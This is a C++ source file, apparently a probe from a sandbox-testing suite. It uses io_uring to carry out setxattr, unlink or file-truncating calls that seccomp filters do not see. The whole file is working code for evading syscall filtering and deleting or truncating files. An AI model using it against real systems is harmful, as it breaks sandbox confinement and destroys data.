// SPDX-License-Identifier: MIT
// io_uring CALL PATH: has a kernel thread make the call, where no seccomp filter looks.
#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#include <cstdint>
#include <string_view>

#include "attack.hpp"

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  io_uring_params parameters{};
  long ring = syscall(SYS_io_uring_setup, 4, &parameters);
  if (ring < 0) {
    if (errno == EPERM) impossible("io_uring is disabled on this host");
    return ended(ring);
  }
  int fd = static_cast<int>(ring);
  std::size_t size = parameters.sq_off.array + parameters.sq_entries * sizeof(uint32_t);
  auto* queue = static_cast<char*>(
      mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_SQ_RING));
  auto* entries = static_cast<io_uring_sqe*>(mmap(
      nullptr, 4 * sizeof(io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_SQES));
  if (queue == MAP_FAILED || entries == MAP_FAILED) return 1;
  io_uring_sqe& entry = entries[0];
  entry = {};
  std::string_view call = argv[1];
  if (call == "setxattr") {
    entry.opcode = IORING_OP_SETXATTR;
    entry.addr = reinterpret_cast<uint64_t>("user.z");
    entry.addr2 = reinterpret_cast<uint64_t>("1");
    entry.addr3 = reinterpret_cast<uint64_t>(argv[2]);
    entry.len = 1;
  } else if (call == "unlink") {
    entry.opcode = IORING_OP_UNLINKAT;
    entry.fd = AT_FDCWD;
    entry.addr = reinterpret_cast<uint64_t>(argv[2]);
  } else if (call == "truncate") {
    entry.opcode = IORING_OP_OPENAT;
    entry.fd = AT_FDCWD;
    entry.addr = reinterpret_cast<uint64_t>(argv[2]);
    entry.open_flags = O_WRONLY | O_TRUNC;
  }
  auto* tail = reinterpret_cast<uint32_t*>(queue + parameters.sq_off.tail);
  reinterpret_cast<uint32_t*>(queue + parameters.sq_off.array)[0] = 0;
  __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
  return ended(syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, nullptr, 0));
}
